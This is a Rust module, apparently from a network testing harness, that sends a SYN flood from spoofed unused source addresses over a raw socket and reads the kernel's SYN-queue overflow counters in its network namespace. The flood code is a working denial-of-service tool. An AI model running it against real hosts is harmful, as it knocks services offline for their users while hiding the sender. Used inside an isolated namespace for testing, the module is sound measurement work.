//! SYNs from unused addresses, so that the server's answer to them is never acknowledged.

use std::net::{SocketAddr, SocketAddrV6};

use anyhow::{Context as _, ensure};
use rustix::io::Errno;
use socket2::{Domain, Protocol, Socket, Type};

use super::ground::nobody;
use crate::segment::syn;

/// A SYN flood against one address.
#[derive(Debug)]
pub struct SynFlood {
    socket: Socket,
    to: SocketAddr,
}

impl SynFlood {
    /// Opens a raw socket for a flood against `to`. Only root can do that.
    ///
    /// # Errors
    /// Fails if no raw socket can be opened.
    pub fn on(to: SocketAddr) -> anyhow::Result<Self> {
        let socket = Socket::new(
            Domain::for_address(to),
            Type::RAW,
            Some(Protocol::from(WITH_HEADERS)),
        )
        .context("a raw socket")?;
        Ok(Self { socket, to })
    }

    /// Sends the SYN number `turn`.
    ///
    /// # Errors
    /// Fails if the kernel does not send it.
    pub fn send(&self, turn: usize) -> anyhow::Result<()> {
        let [low, high] = [turn as u16, (turn >> 16) as u16];
        // The port changes each time that all addresses were used.
        let from = SocketAddr::new(nobody(self.to.ip(), low), 1024 + (low >> 8) + (high << 8));
        // On a raw socket, the kernel takes the port of the destination as a protocol number.
        let to = match self.to {
            SocketAddr::V4(to) => SocketAddr::new((*to.ip()).into(), 0),
            SocketAddr::V6(to) => SocketAddrV6::new(*to.ip(), 0, 0, 0).into(),
        };
        match self.socket.send_to(&syn(from, self.to), &to.into()) {
            Ok(_) => Ok(()),
            // The SYN was dropped here, which has the same effect as a loss on the way.
            Err(error) if Errno::from_io_error(&error) == Some(Errno::NOBUFS) => Ok(()),
            Err(error) => Err(error.into()),
        }
    }

    /// Returns how often the kernel has found the queue of half-open connections full, in the network namespace of the
    /// calling thread.
    ///
    /// # Errors
    /// Fails if the kernel does not report the number.
    pub fn overflows() -> anyhow::Result<u64> {
        let text = std::fs::read_to_string("/proc/thread-self/net/netstat")?;
        let mut lines = text
            .lines()
            .filter_map(|line| line.strip_prefix("TcpExt: "));
        let (names, values) = (lines.next(), lines.next());
        let names = names.context("no names")?.split(' ');
        let mut counts = Vec::new();
        for (name, value) in names.zip(values.context("no values")?.split(' ')) {
            if ["TCPReqQFullDoCookies", "TCPReqQFullDrop"].contains(&name) {
                counts.push(value.parse::<u64>()?);
            }
        }
        ensure!(!counts.is_empty(), "this kernel does not count them");
        Ok(counts.iter().sum())
    }
}

/// IPPROTO_RAW: packets include their own IP header.
const WITH_HEADERS: i32 = 255;
